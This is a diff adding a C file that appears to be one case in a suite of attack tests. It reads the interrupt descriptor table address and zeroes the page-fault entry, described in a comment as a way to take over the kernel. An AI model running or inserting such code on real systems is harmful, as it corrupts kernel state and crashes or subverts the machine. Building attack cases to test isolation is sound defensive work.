@@ -1,0 +1,13 @@
+/* SPDX-License-Identifier: BSD-3-Clause */
+/* Rewrite the page-fault entry of the IDT, to take over the kernel on the next fault. */
+#include "attacks.h"
+
+const char *attack_name(void) { return "idt: overwrite the interrupt descriptor table"; }
+
+void attack(void)
+{
+	struct __attribute__((packed)) { uint16_t limit; uint64_t base; } idtr;
+	__asm__ volatile("sidt %0" : "=m"(idtr));
+	volatile uint64_t *pf = (volatile uint64_t *)(idtr.base + 14 * 16);
+	pf[0] = 0;
+}
